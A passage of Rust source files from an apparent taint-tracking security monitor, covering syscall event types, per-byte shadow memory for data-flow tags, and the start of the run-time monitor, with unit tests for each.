        assert_eq!(store.union(big, small), big, "superset result reuses the input ref");
        assert_eq!(store.stats().interned_sets, interned);
    }

    #[test]
    fn store_round_trips_tag_sets() {
        let (_, u, f, b) = table();
        let mut store = TagStore::new();
        let set = TagSet::from_ids([b, u, f]);
        let r = store.intern_set(&set);
        assert_eq!(store.to_set(r), set);
        assert!(store.contains(r, u) && store.contains(r, f) && store.contains(r, b));
        let with = store.with(r, u);
        assert_eq!(with, r, "adding a member is a no-op");
    }
}
