//! Events Harrier sends to Secpert (paper §6.1.2).
//!
//! Two shapes: *resource access* (a syscall touched a named resource —
//! `execve`, `clone`, `open`, socket calls) and *data transfer* (a write
//! carried tagged bytes into a resource). Both carry the event time, the
//! attributed application basic-block frequency, and the code address,
//! exactly as the paper's CLIPS facts do (Appendix A.1).

use std::fmt;

/// Resource/source types as they appear in Secpert facts.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum ResourceType {
    /// Regular file or FIFO.
    File,
    /// Network socket.
    Socket,
    /// Binary image (hardcoded data).
    Binary,
    /// Command line / environment / console input.
    UserInput,
    /// Hardware-produced values.
    Hardware,
    /// Console output (never flagged by the policy).
    Console,
    /// Provenance unknown — incomplete tracking (paper footnote 4).
    Unknown,
    /// Anonymous pipe (fd plumbing; taint is carried end to end).
    Pipe,
    /// Synthesized `/proc` self-view (self-inspection surface).
    Proc,
}

impl ResourceType {
    /// Every variant, in wire-code order (index == [`ResourceType::code`]).
    /// Strictly append-only: journals recorded before a variant existed
    /// must keep decoding to the same types forever.
    pub const ALL: [ResourceType; 9] = [
        ResourceType::File,
        ResourceType::Socket,
        ResourceType::Binary,
        ResourceType::UserInput,
        ResourceType::Hardware,
        ResourceType::Console,
        ResourceType::Unknown,
        ResourceType::Pipe,
        ResourceType::Proc,
    ];

    /// Symbol used in CLIPS facts.
    pub fn symbol(self) -> &'static str {
        match self {
            ResourceType::File => "FILE",
            ResourceType::Socket => "SOCKET",
            ResourceType::Binary => "BINARY",
            ResourceType::UserInput => "USER_INPUT",
            ResourceType::Hardware => "HARDWARE",
            ResourceType::Console => "CONSOLE",
            ResourceType::Unknown => "UNKNOWN",
            ResourceType::Pipe => "PIPE",
            ResourceType::Proc => "PROC",
        }
    }

    /// Stable numeric code for binary serialisation (the `hth-fleet`
    /// wire format). Codes are append-only: new variants get new codes.
    pub fn code(self) -> u8 {
        ResourceType::ALL.iter().position(|t| *t == self).expect("variant in ALL") as u8
    }

    /// Inverse of [`ResourceType::code`].
    pub fn from_code(code: u8) -> Option<ResourceType> {
        ResourceType::ALL.get(code as usize).copied()
    }
}

impl fmt::Display for ResourceType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.symbol())
    }
}

/// A typed, named source or resource.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SourceInfo {
    /// Type.
    pub kind: ResourceType,
    /// Resource name (path, rendered endpoint, image, or a placeholder
    /// like `STDIN`).
    pub name: String,
}

impl SourceInfo {
    /// Convenience constructor.
    pub fn new(kind: ResourceType, name: impl Into<String>) -> SourceInfo {
        SourceInfo { kind, name: name.into() }
    }
}

impl fmt::Display for SourceInfo {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}(\"{}\")", self.kind, self.name)
    }
}

/// The data sources of a resource *identifier* (Table 2's "Resource ID
/// (Origin) Data Source"): where the file name / socket address string
/// came from. Empty means `UNKNOWN`.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Origin {
    /// Sources, in interning order.
    pub sources: Vec<SourceInfo>,
}

impl Origin {
    /// The unknown origin.
    pub fn unknown() -> Origin {
        Origin::default()
    }

    /// True when no source is known.
    pub fn is_unknown(&self) -> bool {
        self.sources.is_empty()
    }

    /// True when any source has the given type.
    pub fn has(&self, kind: ResourceType) -> bool {
        self.sources.iter().any(|s| s.kind == kind)
    }
}

/// Server-side context attached to events on accepted connections: the
/// listening address and where *it* came from (paper's pma warnings).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ServerInfo {
    /// Rendered listening endpoint (e.g. `LocalHost:11116 (AF_INET)`).
    pub address: String,
    /// Origin of the listening address.
    pub origin: Origin,
}

/// An event sent from Harrier to Secpert.
#[derive(Clone, Debug, PartialEq)]
pub enum SecpertEvent {
    /// A syscall accessed a named resource.
    ResourceAccess {
        /// Monitored process.
        pid: u32,
        /// Syscall name (`SYS_execve`, `SYS_clone`, `SYS_open`, …).
        syscall: &'static str,
        /// The resource accessed.
        resource: SourceInfo,
        /// Origin of the resource identifier.
        origin: Origin,
        /// Virtual time of the event.
        time: u64,
        /// Execution count of the attributed application basic block.
        frequency: u64,
        /// Code address of the attributed application basic block.
        address: u32,
        /// For `clone`/`fork`: total processes created so far.
        proc_count: Option<u64>,
        /// For `clone`/`fork`: forks within the recent window.
        proc_rate: Option<u64>,
        /// For `brk`: total heap bytes the process has allocated
        /// (paper §10 extension: memory resource abuse).
        mem_total: Option<u64>,
        /// Listening-socket context for accepted connections.
        server: Option<ServerInfo>,
    },
    /// A write carried tagged data into a resource.
    DataTransfer {
        /// Monitored process.
        pid: u32,
        /// Syscall name (`SYS_write` / `SYS_send`).
        syscall: &'static str,
        /// Data sources of the written bytes (taint of the buffer).
        data_sources: Vec<SourceInfo>,
        /// Union of the identifier origins of the named data sources
        /// (e.g. for a `FILE` source, where its *file name* came from —
        /// the "user gave file name" vs "hardcoded file name" distinction
        /// of paper §4.3).
        data_origin: Origin,
        /// The resource written to.
        target: SourceInfo,
        /// Origin of the target's identifier.
        target_origin: Origin,
        /// Virtual time of the event.
        time: u64,
        /// Execution count of the attributed application basic block.
        frequency: u64,
        /// Code address of the attributed application basic block.
        address: u32,
        /// True when the written bytes look like executable content
        /// (paper §10 extension: content analysis of downloads).
        executable_content: bool,
        /// Listening-socket context for accepted connections.
        server: Option<ServerInfo>,
        /// Number of bytes the write carried. Fleet-level correlation
        /// sums these per session and per target (the "low-and-slow
        /// exfiltration" digest counters); wire format v1 predates the
        /// field and decodes it as 0.
        bytes: u64,
    },
}

/// Syscall names the kernel substrate emits today, sorted for binary
/// search, so decoding a recorded event stream normally allocates
/// nothing. Built straight from the single-source-of-truth ABI table
/// (`emukernel::abi`), so a syscall added there is known here with no
/// hand-maintained list to drift.
fn known_syscalls() -> &'static [&'static str] {
    use std::sync::OnceLock;
    static KNOWN: OnceLock<Vec<&'static str>> = OnceLock::new();
    KNOWN.get_or_init(|| {
        let mut names: Vec<&'static str> = emukernel::TABLE.iter().map(|d| d.name).collect();
        names.extend_from_slice(emukernel::SOCKETCALL_NAMES);
        names.push("SYS_unknown");
        names.sort_unstable();
        names.dedup();
        names
    })
}

/// Interns a syscall name as `&'static str`, as required by
/// [`SecpertEvent`]'s `syscall` fields. Names from the known kernel set
/// resolve without allocating; anything else (events recorded by a newer
/// kernel, hand-written journals) is leaked once and cached, so repeated
/// decoding of the same stream stays bounded.
pub fn intern_syscall(name: &str) -> &'static str {
    let known = known_syscalls();
    if let Ok(idx) = known.binary_search(&name) {
        return known[idx];
    }
    use std::collections::BTreeSet;
    use std::sync::{Mutex, OnceLock};
    static EXTRA: OnceLock<Mutex<BTreeSet<&'static str>>> = OnceLock::new();
    let mut extra = EXTRA.get_or_init(|| Mutex::new(BTreeSet::new())).lock().expect("interner");
    match extra.get(name) {
        Some(interned) => interned,
        None => {
            let leaked: &'static str = Box::leak(name.to_string().into_boxed_str());
            extra.insert(leaked);
            leaked
        }
    }
}

impl SecpertEvent {
    /// The syscall name of the event.
    pub fn syscall(&self) -> &'static str {
        match self {
            SecpertEvent::ResourceAccess { syscall, .. }
            | SecpertEvent::DataTransfer { syscall, .. } => syscall,
        }
    }

    /// The monitored process id.
    pub fn pid(&self) -> u32 {
        match self {
            SecpertEvent::ResourceAccess { pid, .. } | SecpertEvent::DataTransfer { pid, .. } => {
                *pid
            }
        }
    }

    /// The virtual time of the event.
    pub fn time(&self) -> u64 {
        match self {
            SecpertEvent::ResourceAccess { time, .. } | SecpertEvent::DataTransfer { time, .. } => {
                *time
            }
        }
    }

    /// The primary resource name the event touched — the accessed
    /// resource, or a transfer's target. One short line for flight
    /// recorders and logs; the full origin/taint story stays in the
    /// event itself.
    pub fn resource_name(&self) -> &str {
        match self {
            SecpertEvent::ResourceAccess { resource, .. } => &resource.name,
            SecpertEvent::DataTransfer { target, .. } => &target.name,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn origin_predicates() {
        let o = Origin {
            sources: vec![
                SourceInfo::new(ResourceType::Binary, "/bin/app"),
                SourceInfo::new(ResourceType::UserInput, "STDIN"),
            ],
        };
        assert!(o.has(ResourceType::Binary));
        assert!(!o.has(ResourceType::Socket));
        assert!(!o.is_unknown());
        assert!(Origin::unknown().is_unknown());
    }

    #[test]
    fn resource_type_codes_round_trip() {
        for t in ResourceType::ALL {
            assert_eq!(ResourceType::from_code(t.code()), Some(t));
        }
        assert_eq!(ResourceType::from_code(ResourceType::ALL.len() as u8), None);
    }

    #[test]
    fn syscall_interning() {
        let known = known_syscalls();
        assert!(known.windows(2).all(|w| w[0] < w[1]), "binary search needs order");
        // The ABI-derived set covers every table row, the socketcall
        // sub-call names, and the unknown sentinel.
        for def in emukernel::TABLE {
            assert!(known.contains(&def.name), "missing {}", def.name);
        }
        assert!(known.contains(&"SYS_recv"));
        assert!(known.contains(&"SYS_unknown"));
        // Known names come back as the same static without allocation.
        assert_eq!(intern_syscall("SYS_execve"), "SYS_execve");
        // Unknown names intern to a stable address.
        let a = intern_syscall("SYS_fleet_test_only");
        let b = intern_syscall(&String::from("SYS_fleet_test_only"));
        assert!(std::ptr::eq(a, b));
    }

    #[test]
    fn display_shapes() {
        assert_eq!(ResourceType::UserInput.to_string(), "USER_INPUT");
        assert_eq!(
            SourceInfo::new(ResourceType::File, "/etc/passwd").to_string(),
            "FILE(\"/etc/passwd\")"
        );
    }
}
