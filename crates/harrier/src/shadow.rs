//! Shadow state: one [`TagRef`] per register and per memory byte.
//!
//! Shadow memory is demand-allocated in 4 KiB pages, and each page is
//! kept in the most compact of two representations:
//!
//! * [`Page::Uniform`] — every byte of the page carries the same tag
//!   (one word for the whole page). Whole-buffer tagging, the common
//!   case for `read`/image loading/stack setup, stays O(1) per page.
//! * [`Page::Dense`] — one `TagRef` per byte, entered only when a page
//!   actually diverges.
//!
//! Because a [`TagRef`] is a `Copy` handle into the session's
//! [`TagStore`], reads and writes never touch a refcount and range
//! unions skip runs of identical refs with O(1) equality checks.

use std::collections::{BTreeSet, HashMap};

use hth_vm::{Loc, Reg, TaintOp};

use crate::tag::{SourceId, TagRef, TagStore};

const PAGE: u32 = 4096;

/// One 4 KiB shadow page.
#[derive(Clone, Debug)]
enum Page {
    /// Every byte carries this tag.
    Uniform(TagRef),
    /// Per-byte tags (the page has diverged).
    Dense(Box<[TagRef]>),
}

impl Page {
    /// Converts to the per-byte representation and returns it.
    fn densify(&mut self) -> &mut [TagRef] {
        if let Page::Uniform(t) = *self {
            *self = Page::Dense(vec![t; PAGE as usize].into());
        }
        match self {
            Page::Dense(bytes) => bytes,
            Page::Uniform(_) => unreachable!("just densified"),
        }
    }
}

/// Per-process shadow register file and shadow memory.
///
/// All tags are handles into one [`TagStore`] (owned by the monitor and
/// shared across processes), so the store is passed into the operations
/// that combine tags. Unshadowed bytes read as untainted.
#[derive(Clone, Debug, Default)]
pub struct Shadow {
    regs: [TagRef; 8],
    pages: HashMap<u32, Page>,
}

impl Shadow {
    /// Fresh, fully-untainted shadow state.
    pub fn new() -> Shadow {
        Shadow::default()
    }

    /// Tag of a register.
    pub fn reg(&self, reg: Reg) -> TagRef {
        self.regs[reg.index()]
    }

    /// Sets a register's tag.
    pub fn set_reg(&mut self, reg: Reg, tag: TagRef) {
        self.regs[reg.index()] = tag;
    }

    /// Tag of one memory byte.
    pub fn byte(&self, addr: u32) -> TagRef {
        match self.pages.get(&(addr / PAGE)) {
            Some(Page::Uniform(t)) => *t,
            Some(Page::Dense(bytes)) => bytes[(addr % PAGE) as usize],
            None => TagRef::EMPTY,
        }
    }

    /// Sets one memory byte's tag.
    pub fn set_byte(&mut self, addr: u32, tag: TagRef) {
        let (pno, off) = (addr / PAGE, (addr % PAGE) as usize);
        if let Some(page) = self.pages.get_mut(&pno) {
            match page {
                Page::Uniform(t) if *t == tag => {}
                _ => page.densify()[off] = tag,
            }
        } else if !tag.is_empty() {
            let mut bytes = vec![TagRef::EMPTY; PAGE as usize].into_boxed_slice();
            bytes[off] = tag;
            self.pages.insert(pno, Page::Dense(bytes));
        }
    }

    /// Union of the tags of `len` bytes starting at `addr`.
    ///
    /// Uniform pages contribute one union each; dense pages are scanned
    /// with run-skipping, so a run of identical refs costs one memoized
    /// union instead of one merge per byte.
    pub fn range(&self, addr: u32, len: u32, store: &mut TagStore) -> TagRef {
        let mut out = TagRef::EMPTY;
        let mut cur = addr;
        let mut rem = len;
        while rem > 0 {
            let (pno, off) = (cur / PAGE, cur % PAGE);
            let n = (PAGE - off).min(rem);
            match self.pages.get(&pno) {
                None => {}
                Some(Page::Uniform(t)) => out = store.union(out, *t),
                Some(Page::Dense(bytes)) => {
                    let mut last = None;
                    for &t in &bytes[off as usize..(off + n) as usize] {
                        if Some(t) != last {
                            out = store.union(out, t);
                            last = Some(t);
                        }
                    }
                }
            }
            cur = cur.wrapping_add(n);
            rem -= n;
        }
        out
    }

    /// Sets `len` bytes to the same tag. Fully covered pages collapse to
    /// [`Page::Uniform`] (or are dropped when clearing) without touching
    /// per-byte state.
    pub fn set_range(&mut self, addr: u32, len: u32, tag: TagRef) {
        let mut cur = addr;
        let mut rem = len;
        while rem > 0 {
            let (pno, off) = (cur / PAGE, cur % PAGE);
            let n = (PAGE - off).min(rem);
            if n == PAGE {
                if tag.is_empty() {
                    self.pages.remove(&pno);
                } else {
                    self.pages.insert(pno, Page::Uniform(tag));
                }
            } else if let Some(page) = self.pages.get_mut(&pno) {
                match page {
                    Page::Uniform(t) if *t == tag => {}
                    _ => {
                        page.densify()[off as usize..(off + n) as usize].fill(tag);
                    }
                }
            } else if !tag.is_empty() {
                let mut bytes = vec![TagRef::EMPTY; PAGE as usize].into_boxed_slice();
                bytes[off as usize..(off + n) as usize].fill(tag);
                self.pages.insert(pno, Page::Dense(bytes));
            }
            cur = cur.wrapping_add(n);
            rem -= n;
        }
    }

    /// Clears `len` bytes.
    pub fn clear_range(&mut self, addr: u32, len: u32) {
        self.set_range(addr, len, TagRef::EMPTY);
    }

    /// Tag at a [`Loc`].
    pub fn read_loc(&self, loc: Loc, store: &mut TagStore) -> TagRef {
        match loc {
            Loc::Reg(r) => self.reg(r),
            Loc::Mem(addr, len) => self.range(addr, len, store),
        }
    }

    /// Sets the tag at a [`Loc`].
    pub fn write_loc(&mut self, loc: Loc, tag: TagRef) {
        match loc {
            Loc::Reg(r) => self.set_reg(r, tag),
            Loc::Mem(addr, len) => self.set_range(addr, len, tag),
        }
    }

    /// Applies one dataflow micro-op: destination tag becomes the union
    /// of the source tags, plus the executing image's `BINARY` tag for
    /// immediates and `HARDWARE` for `cpuid` (paper §7.3.1).
    pub fn apply(&mut self, op: &TaintOp, binary: TagRef, hardware: TagRef, store: &mut TagStore) {
        let mut tag = TagRef::EMPTY;
        for src in op.srcs.iter().flatten() {
            let t = self.read_loc(*src, store);
            tag = store.union(tag, t);
        }
        if op.imm {
            tag = store.union(tag, binary);
        }
        if op.hardware {
            tag = store.union(tag, hardware);
        }
        self.write_loc(op.dst, tag);
    }

    /// Read-only union of a range, rendered as sorted source ids.
    ///
    /// Unlike [`Shadow::range`] this never writes to the store's memo
    /// tables, so diagnostics on a shared `&` monitor stay possible.
    pub fn range_ids(&self, addr: u32, len: u32, store: &TagStore) -> Vec<SourceId> {
        let mut refs = BTreeSet::new();
        let mut cur = addr;
        let mut rem = len;
        while rem > 0 {
            let (pno, off) = (cur / PAGE, cur % PAGE);
            let n = (PAGE - off).min(rem);
            match self.pages.get(&pno) {
                None => {}
                Some(Page::Uniform(t)) => {
                    refs.insert(*t);
                }
                Some(Page::Dense(bytes)) => {
                    refs.extend(bytes[off as usize..(off + n) as usize].iter().copied());
                }
            }
            cur = cur.wrapping_add(n);
            rem -= n;
        }
        let mut ids = BTreeSet::new();
        for r in refs {
            ids.extend(store.ids(r).iter().copied());
        }
        ids.into_iter().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tag::{DataSource, SourceTable};

    fn ids() -> (TagStore, TagRef, TagRef, TagRef) {
        let mut t = SourceTable::new();
        let b = t.intern(DataSource::binary("/bin/app"));
        let h = t.intern(DataSource::Hardware);
        let f = t.intern(DataSource::file("/f"));
        let mut store = TagStore::new();
        let (b, h, f) = (store.single(b), store.single(h), store.single(f));
        (store, b, h, f)
    }

    #[test]
    fn byte_and_range_round_trip() {
        let (mut store, b, _, f) = ids();
        let mut s = Shadow::new();
        s.set_range(0x1000, 4, f);
        s.set_byte(0x1002, b);
        assert_eq!(s.byte(0x1000), f);
        assert_eq!(s.byte(0x1002), b);
        let r = s.range(0x1000, 4, &mut store);
        let (fid, bid) = (store.ids(f)[0], store.ids(b)[0]);
        assert!(store.contains(r, fid) && store.contains(r, bid));
        assert!(s.byte(0x9999_9999).is_empty());
    }

    #[test]
    fn uniform_pages_stay_compact() {
        let (mut store, b, _, f) = ids();
        let mut s = Shadow::new();
        // A 3-page aligned fill: every page is Uniform, no Dense page.
        s.set_range(3 * PAGE, 3 * PAGE, f);
        assert!(s.pages.values().all(|p| matches!(p, Page::Uniform(_))));
        assert_eq!(s.range(3 * PAGE, 3 * PAGE, &mut store), f);
        // Clearing a full page frees it entirely.
        s.clear_range(3 * PAGE, PAGE);
        assert_eq!(s.pages.len(), 2);
        // A diverging byte densifies exactly one page.
        s.set_byte(4 * PAGE + 7, b);
        assert_eq!(s.pages.values().filter(|p| matches!(p, Page::Dense(_))).count(), 1);
    }

    #[test]
    fn range_spans_page_boundaries() {
        let (mut store, b, _, f) = ids();
        let mut s = Shadow::new();
        s.set_range(PAGE - 2, 4, f);
        s.set_byte(PAGE + 1, b);
        let r = s.range(PAGE - 2, 4, &mut store);
        assert_eq!(store.ids(r).len(), 2);
        assert_eq!(s.range_ids(PAGE - 2, 4, &store), store.ids(r));
    }

    #[test]
    fn mov_propagates_and_imm_tags_binary() {
        let (mut store, b, h, f) = ids();
        let mut s = Shadow::new();
        s.set_reg(Reg::Ebx, f);
        // mov eax, ebx
        s.apply(
            &TaintOp {
                dst: Loc::Reg(Reg::Eax),
                srcs: [Some(Loc::Reg(Reg::Ebx)), None],
                imm: false,
                hardware: false,
            },
            b,
            h,
            &mut store,
        );
        assert_eq!(s.reg(Reg::Eax), f);
        // mov ecx, 5 (immediate)
        s.apply(
            &TaintOp { dst: Loc::Reg(Reg::Ecx), srcs: [None, None], imm: true, hardware: false },
            b,
            h,
            &mut store,
        );
        assert_eq!(s.reg(Reg::Ecx), b);
    }

    #[test]
    fn alu_unions_sources() {
        let (mut store, b, h, f) = ids();
        let mut s = Shadow::new();
        s.set_reg(Reg::Eax, f);
        s.set_reg(Reg::Ebx, h);
        // add eax, ebx — eax gets both.
        s.apply(
            &TaintOp {
                dst: Loc::Reg(Reg::Eax),
                srcs: [Some(Loc::Reg(Reg::Eax)), Some(Loc::Reg(Reg::Ebx))],
                imm: false,
                hardware: false,
            },
            b,
            h,
            &mut store,
        );
        let out = s.reg(Reg::Eax);
        let (fid, hid) = (store.ids(f)[0], store.ids(h)[0]);
        assert!(store.contains(out, fid) && store.contains(out, hid));
    }

    #[test]
    fn clear_breaks_dependence() {
        let (mut store, b, h, f) = ids();
        let mut s = Shadow::new();
        s.set_reg(Reg::Eax, f);
        s.apply(
            &TaintOp { dst: Loc::Reg(Reg::Eax), srcs: [None, None], imm: false, hardware: false },
            b,
            h,
            &mut store,
        );
        assert!(s.reg(Reg::Eax).is_empty());
    }

    #[test]
    fn memory_loc_width_respected() {
        let (mut store, b, h, f) = ids();
        let mut s = Shadow::new();
        s.set_reg(Reg::Eax, f);
        s.apply(
            &TaintOp {
                dst: Loc::Mem(0x2000, 4),
                srcs: [Some(Loc::Reg(Reg::Eax)), None],
                imm: false,
                hardware: false,
            },
            b,
            h,
            &mut store,
        );
        assert_eq!(s.byte(0x2003), f);
        assert!(s.byte(0x2004).is_empty());
    }
}
