//! Shadow state: one [`TagSet`] per register and per memory byte.

use std::collections::HashMap;

use hth_vm::{Loc, Reg, TaintOp};

use crate::tag::{SourceId, TagSet};

const PAGE: u32 = 4096;

/// Per-process shadow register file and shadow memory.
///
/// Memory shadows are demand-allocated pages of per-byte tag sets;
/// unshadowed bytes read as untainted.
#[derive(Clone, Debug, Default)]
pub struct Shadow {
    regs: [TagSet; 8],
    pages: HashMap<u32, Box<[TagSet]>>,
}

impl Shadow {
    /// Fresh, fully-untainted shadow state.
    pub fn new() -> Shadow {
        Shadow::default()
    }

    /// Tag of a register.
    pub fn reg(&self, reg: Reg) -> &TagSet {
        &self.regs[reg.index()]
    }

    /// Sets a register's tag.
    pub fn set_reg(&mut self, reg: Reg, tag: TagSet) {
        self.regs[reg.index()] = tag;
    }

    /// Tag of one memory byte.
    pub fn byte(&self, addr: u32) -> TagSet {
        match self.pages.get(&(addr / PAGE)) {
            Some(page) => page[(addr % PAGE) as usize].clone(),
            None => TagSet::empty(),
        }
    }

    fn page_mut(&mut self, page: u32) -> &mut [TagSet] {
        self.pages.entry(page).or_insert_with(|| vec![TagSet::empty(); PAGE as usize].into())
    }

    /// Sets one memory byte's tag.
    pub fn set_byte(&mut self, addr: u32, tag: TagSet) {
        self.page_mut(addr / PAGE)[(addr % PAGE) as usize] = tag;
    }

    /// Union of the tags of `len` bytes starting at `addr`.
    pub fn range(&self, addr: u32, len: u32) -> TagSet {
        let mut out = TagSet::empty();
        for i in 0..len {
            out = out.union(&self.byte(addr.wrapping_add(i)));
        }
        out
    }

    /// Sets `len` bytes to the same tag.
    pub fn set_range(&mut self, addr: u32, len: u32, tag: &TagSet) {
        for i in 0..len {
            self.set_byte(addr.wrapping_add(i), tag.clone());
        }
    }

    /// Clears `len` bytes.
    pub fn clear_range(&mut self, addr: u32, len: u32) {
        self.set_range(addr, len, &TagSet::empty());
    }

    /// Tag at a [`Loc`].
    pub fn read_loc(&self, loc: Loc) -> TagSet {
        match loc {
            Loc::Reg(r) => self.reg(r).clone(),
            Loc::Mem(addr, len) => self.range(addr, len),
        }
    }

    /// Sets the tag at a [`Loc`].
    pub fn write_loc(&mut self, loc: Loc, tag: TagSet) {
        match loc {
            Loc::Reg(r) => self.set_reg(r, tag),
            Loc::Mem(addr, len) => self.set_range(addr, len, &tag),
        }
    }

    /// Applies one dataflow micro-op: destination tag becomes the union
    /// of the source tags, plus the executing image's `BINARY` source for
    /// immediates and `HARDWARE` for `cpuid` (paper §7.3.1).
    pub fn apply(&mut self, op: &TaintOp, binary: SourceId, hardware: SourceId) {
        let mut tag = TagSet::empty();
        for src in op.srcs.iter().flatten() {
            tag = tag.union(&self.read_loc(*src));
        }
        if op.imm {
            tag = tag.with(binary);
        }
        if op.hardware {
            tag = tag.with(hardware);
        }
        self.write_loc(op.dst, tag);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tag::{DataSource, SourceTable};

    fn ids() -> (SourceTable, SourceId, SourceId, SourceId) {
        let mut t = SourceTable::new();
        let b = t.intern(DataSource::binary("/bin/app"));
        let h = t.intern(DataSource::Hardware);
        let f = t.intern(DataSource::file("/f"));
        (t, b, h, f)
    }

    #[test]
    fn byte_and_range_round_trip() {
        let (_, b, _, f) = ids();
        let mut s = Shadow::new();
        s.set_range(0x1000, 4, &TagSet::single(f));
        s.set_byte(0x1002, TagSet::single(b));
        assert_eq!(s.byte(0x1000), TagSet::single(f));
        assert_eq!(s.byte(0x1002), TagSet::single(b));
        let r = s.range(0x1000, 4);
        assert!(r.contains(f) && r.contains(b));
        assert!(s.byte(0x9999_9999).is_empty());
    }

    #[test]
    fn mov_propagates_and_imm_tags_binary() {
        let (_, b, h, f) = ids();
        let mut s = Shadow::new();
        s.set_reg(Reg::Ebx, TagSet::single(f));
        // mov eax, ebx
        s.apply(
            &TaintOp { dst: Loc::Reg(Reg::Eax), srcs: [Some(Loc::Reg(Reg::Ebx)), None], imm: false, hardware: false },
            b,
            h,
        );
        assert_eq!(s.reg(Reg::Eax), &TagSet::single(f));
        // mov ecx, 5 (immediate)
        s.apply(
            &TaintOp { dst: Loc::Reg(Reg::Ecx), srcs: [None, None], imm: true, hardware: false },
            b,
            h,
        );
        assert_eq!(s.reg(Reg::Ecx), &TagSet::single(b));
    }

    #[test]
    fn alu_unions_sources() {
        let (_, b, h, f) = ids();
        let mut s = Shadow::new();
        s.set_reg(Reg::Eax, TagSet::single(f));
        s.set_reg(Reg::Ebx, TagSet::single(h));
        // add eax, ebx — eax gets both.
        s.apply(
            &TaintOp {
                dst: Loc::Reg(Reg::Eax),
                srcs: [Some(Loc::Reg(Reg::Eax)), Some(Loc::Reg(Reg::Ebx))],
                imm: false,
                hardware: false,
            },
            b,
            h,
        );
        assert!(s.reg(Reg::Eax).contains(f) && s.reg(Reg::Eax).contains(h));
    }

    #[test]
    fn clear_breaks_dependence() {
        let (_, b, h, f) = ids();
        let mut s = Shadow::new();
        s.set_reg(Reg::Eax, TagSet::single(f));
        s.apply(
            &TaintOp { dst: Loc::Reg(Reg::Eax), srcs: [None, None], imm: false, hardware: false },
            b,
            h,
        );
        assert!(s.reg(Reg::Eax).is_empty());
    }

    #[test]
    fn memory_loc_width_respected() {
        let (_, b, h, f) = ids();
        let mut s = Shadow::new();
        s.set_reg(Reg::Eax, TagSet::single(f));
        s.apply(
            &TaintOp {
                dst: Loc::Mem(0x2000, 4),
                srcs: [Some(Loc::Reg(Reg::Eax)), None],
                imm: false,
                hardware: false,
            },
            b,
            h,
        );
        assert_eq!(s.byte(0x2003), TagSet::single(f));
        assert!(s.byte(0x2004).is_empty());
    }
}
