//! Harrier: the run-time monitor (paper §7).
//!
//! Harrier implements the VM's [`Hooks`] to track data flow and basic
//! block frequency while the program runs, and digests each serviced
//! syscall's [`SyscallEffect`] into [`SecpertEvent`]s: tagging buffers on
//! reads, computing resource-identifier origins from the taint of name
//! arguments, remembering each resource's origin from `open`/`connect`/
//! `bind` to later writes, short-circuiting taint across name resolution
//! (§7.2), and attributing every event to the last application basic
//! block (§7.4).

use std::collections::HashMap;

use emukernel::{Kernel, Process, Resource, SyscallEffect, SyscallRecord};
use hth_vm::{Hooks, ImageId, Instr, Reg, TaintOp};

use crate::events::{Origin, ResourceType, SecpertEvent, ServerInfo, SourceInfo};
use crate::freq::BbFreq;
use crate::shadow::Shadow;
use crate::tag::{DataSource, SourceId, SourceTable, TagRef, TagStore, TaintStats};

/// Monitor configuration — the knobs behind the paper's §9 ablation.
#[derive(Clone, Debug)]
pub struct HarrierConfig {
    /// Track per-instruction data flow (dominant cost in the paper).
    pub track_dataflow: bool,
    /// Count application basic-block executions.
    pub track_bb_freq: bool,
    /// Copy the name string's tags onto resolution results
    /// (`gethostbyname` short circuit, §7.2).
    pub short_circuit_resolution: bool,
    /// Window (virtual-time ticks) for the process-creation rate rule.
    pub fork_rate_window: u64,
}

impl Default for HarrierConfig {
    fn default() -> HarrierConfig {
        HarrierConfig {
            track_dataflow: true,
            track_bb_freq: true,
            short_circuit_resolution: true,
            fork_rate_window: 50,
        }
    }
}

/// Remembered origin of a named resource (set when the resource is
/// opened/connected/bound, consulted when it is written).
#[derive(Clone, Debug, Default)]
struct OriginRecord {
    tags: TagRef,
    server: Option<(String, TagRef)>,
}

/// Per-process monitor state.
#[derive(Clone, Debug)]
struct ProcMon {
    shadow: Shadow,
    freq: BbFreq,
    /// `BINARY` tag per loaded image.
    image_tags: Vec<TagRef>,
    /// Resource name → identifier origin.
    origins: HashMap<String, OriginRecord>,
    /// Local port → rendered listening endpoint (server bookkeeping).
    bound_ports: HashMap<u16, String>,
    /// Address of the most recent `int 0x80` (event attribution when BB
    /// tracking is off).
    last_syscall_addr: u32,
}

/// The run-time monitor.
pub struct Harrier {
    config: HarrierConfig,
    sources: SourceTable,
    /// Hash-consed tag sets, shared by every monitored process.
    store: TagStore,
    user_tag: TagRef,
    hardware_tag: TagRef,
    procs: HashMap<u32, ProcMon>,
    /// Taint carried by each anonymous pipe's buffered bytes, keyed by
    /// kernel pipe id. Kernel-global (pipes are shared across `fork` and
    /// `dup2`), so laundering through fd plumbing cannot shed tags.
    pipe_tags: HashMap<u64, TagRef>,
    events_emitted: u64,
}

impl Harrier {
    /// Creates a monitor with the given configuration.
    pub fn new(config: HarrierConfig) -> Harrier {
        let mut sources = SourceTable::new();
        let user_input = sources.intern(DataSource::UserInput);
        let hardware = sources.intern(DataSource::Hardware);
        let mut store = TagStore::new();
        let user_tag = store.single(user_input);
        let hardware_tag = store.single(hardware);
        Harrier {
            config,
            sources,
            store,
            user_tag,
            hardware_tag,
            procs: HashMap::new(),
            pipe_tags: HashMap::new(),
            events_emitted: 0,
        }
    }

    /// Monitor configuration.
    pub fn config(&self) -> &HarrierConfig {
        &self.config
    }

    /// The source interning table (read access for diagnostics).
    pub fn sources(&self) -> &SourceTable {
        &self.sources
    }

    /// The tag store (read access for diagnostics).
    pub fn tag_store(&self) -> &TagStore {
        &self.store
    }

    /// Interning and union-memoization counters.
    pub fn taint_stats(&self) -> TaintStats {
        self.store.stats()
    }

    /// Total events emitted since creation.
    pub fn events_emitted(&self) -> u64 {
        self.events_emitted
    }

    /// Starts monitoring a freshly spawned process: shadows its images'
    /// data sections as `BINARY` and its initial stack as `USER_INPUT`.
    pub fn attach(&mut self, proc: &Process) {
